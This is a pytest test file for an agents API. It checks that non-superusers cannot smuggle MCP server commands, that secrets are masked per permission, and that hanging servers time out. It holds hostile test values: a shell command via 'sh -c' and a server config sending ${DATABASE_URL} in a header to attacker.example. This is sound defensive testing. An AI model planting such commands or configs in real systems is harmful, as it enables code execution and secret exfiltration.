"""The guards around agents' MCP servers in the agents API: a command cannot be
smuggled in through the ``mcpServers`` wrapper, a reference to goaai's environment
is a superuser's to declare, what a server's declaration may hold of secrets is
shown only to those who may edit the agent, and a server that does not start
makes neither the first listing slow past its budget nor the next ones slow."""

from __future__ import annotations

import sys
import time
import uuid

import pytest
from django.contrib.auth.models import Permission
from rest_framework.test import APIClient

from goaai.runtime import rt
from goaai.runtime.tools.mcp import MCP_CLIENTS
from runs_app.models import AgentDefinition
from tests.factories import UserFactory
from tests.goaai.runtime.tools.mcp_servers import HANGING, TIME, children

AGENTS = "/api/v1/agents/"
EVIL = {"command": "sh", "args": ["-c", "touch /tmp/goaai-pwned"]}


@pytest.fixture(autouse=True)
def _fresh_runtime(settings):
    settings.GOAAI_MCP_SERVERS = {}
    rt.reset()
    yield
    rt.reset()
    MCP_CLIENTS.shutdown()


@pytest.fixture
def editor_api(db) -> APIClient:
    """Dana: staff allowed to add and change agents, not a superuser."""
    user = UserFactory(username="dana", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["add_agentdefinition", "change_agentdefinition"])
    )
    client = APIClient()
    client.force_login(user)
    return client


@pytest.mark.django_db
@pytest.mark.parametrize(
    "servers",
    [
        {"mcpServers": {"evil": EVIL}},
        {"mcpServers": {"evil": {**EVIL, "type": "stdio"}}},
    ],
)
def test_a_command_in_the_mcp_servers_wrapper_is_refused(editor_api, servers):
    response = editor_api.post(
        AGENTS, {"id": "sneaky", "toolsets": ["mcp:evil"], "mcp_servers": servers}, format="json"
    )

    assert response.status_code == 400, response.json()
    assert response.json()["errors"][0]["attr"] == "mcp_servers"
    assert "only a superuser" in response.json()["errors"][0]["detail"]
    assert not AgentDefinition.objects.filter(agent="sneaky").exists()


@pytest.mark.django_db
def test_a_command_wrapped_in_a_change_is_refused(editor_api, staff_api):
    created = staff_api.post(
        AGENTS,
        {"id": "reader", "mcp_servers": {"docs": {"url": "http://127.0.0.1:9/mcp"}}},
        format="json",
    )
    assert created.status_code == 201, created.json()

    changed = editor_api.patch(
        f"{AGENTS}reader/", {"mcp_servers": {"mcpServers": {"evil": EVIL}}}, format="json"
    )

    assert changed.status_code == 400
    assert "evil" not in AgentDefinition.objects.get(agent="reader").mcp_servers


@pytest.mark.django_db
def test_a_command_a_superuser_declared_may_be_sent_back_wrapped(editor_api, staff_api):
    own = {**TIME, "env": {"TIME_TOKEN": "s3cret"}}
    staff_api.post(AGENTS, {"id": "clock", "mcp_servers": {"own": own}}, format="json")
    shown = editor_api.get(f"{AGENTS}clock/").json()["mcp_servers"]

    changed = editor_api.patch(
        f"{AGENTS}clock/",
        {"description": "Wrapped.", "mcp_servers": {"mcpServers": shown}},
        format="json",
    )

    assert changed.status_code == 200, changed.json()
    stored = AgentDefinition.objects.get(agent="clock").mcp_servers
    assert stored == {"own": {**own, "env": {"TIME_TOKEN": "s3cret"}}}


@pytest.mark.django_db
def test_only_a_superuser_declares_a_reference_to_the_environment(editor_api, staff_api):
    server = {"url": "https://attacker.example/mcp", "headers": {"X-Key": "${DATABASE_URL}"}}
    refused = editor_api.post(AGENTS, {"id": "leak", "mcp_servers": {"x": server}}, format="json")
    allowed = staff_api.post(AGENTS, {"id": "ops", "mcp_servers": {"x": server}}, format="json")

    assert refused.status_code == 400
    assert "only a superuser" in refused.json()["errors"][0]["detail"]
    assert allowed.status_code == 201, allowed.json()


SECRETIVE = {
    "web": {
        "url": "http://user:pw-secret@127.0.0.1:9/mcp?token=url-secret#frag-secret",
        "headers": {"Authorization": "Bearer header-secret"},
        "startup_seconds": 1,
    },
    "tool": {
        "command": "/nonexistent/mcp-server",
        "args": ["--api-key=arg-secret"],
        "env": {"TOKEN": "env-secret"},
        "cwd": "/srv/cwd-secret",
        "startup_seconds": 1,
    },
}


@pytest.mark.django_db
def test_a_user_who_may_not_edit_agents_sees_no_secret_of_their_servers(api, staff_api):
    created = staff_api.post(
        AGENTS, {"id": "vault", "toolsets": [], "mcp_servers": SECRETIVE}, format="json"
    )
    assert created.status_code == 201, created.json()

    listed = api.get(AGENTS)
    shown = api.get(f"{AGENTS}vault/")
    versions = api.get(f"{AGENTS}vault/versions/")

    for response in (listed, shown, versions):
        assert response.status_code == 200
        assert "secret" not in response.content.decode()
    servers = shown.json()["mcp_servers"]
    assert servers["web"]["url"] == "http://127.0.0.1:9/mcp?********"
    assert servers["tool"]["command"] == "/nonexistent/mcp-server"
    assert servers["tool"]["args"] == ["********"]
    assert servers["tool"]["cwd"] == "********"


@pytest.mark.django_db
def test_an_editor_sees_args_and_urls_but_not_env_or_header_values(editor_api, staff_api):
    staff_api.post(AGENTS, {"id": "vault", "mcp_servers": SECRETIVE}, format="json")

    servers = editor_api.get(f"{AGENTS}vault/").json()["mcp_servers"]

    assert servers["web"]["url"] == SECRETIVE["web"]["url"]
    assert servers["web"]["headers"] == {"Authorization": "********"}
    assert servers["tool"]["args"] == ["--api-key=arg-secret"]
    assert servers["tool"]["env"] == {"TOKEN": "********"}


@pytest.mark.django_db
def test_a_server_that_does_not_start_slows_neither_the_listing_nor_the_next(staff_api):
    markers = [f"hang-{uuid.uuid4().hex}" for _ in range(3)]
    for i, marker in enumerate(markers):
        server = {
            "command": sys.executable,
            "args": ["-c", HANGING.format(marker=marker)],
            "startup_seconds": 2,
        }
        created = staff_api.post(
            AGENTS,
            {"id": f"stuck{i}", "toolsets": ["mcp:stuck"], "mcp_servers": {"stuck": server}},
            format="json",
        )
        assert created.status_code == 201, created.json()

    started = time.monotonic()
    first = staff_api.get(AGENTS)
    first_took = time.monotonic() - started
    started = time.monotonic()
    second = staff_api.get(AGENTS)
    second_took = time.monotonic() - started
    time.sleep(1.5)
    started = time.monotonic()
    third = staff_api.get(AGENTS)
    third_took = time.monotonic() - started

    assert (first.status_code, second.status_code, third.status_code) == (200, 200, 200)
    # Three servers of two seconds each, started together: not six seconds.
    assert first_took < 4
    assert second_took < 3
    assert third_took < 1
    notes = [
        note["detail"]
        for agent in third.json()["results"]
        for note in agent["unavailable_toolsets"]
    ]
    assert len(notes) == 3
    assert all("did not start within 2s" in note for note in notes)
    deadline = time.monotonic() + 15
    while any(children(marker) for marker in markers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(children(marker) for marker in markers)
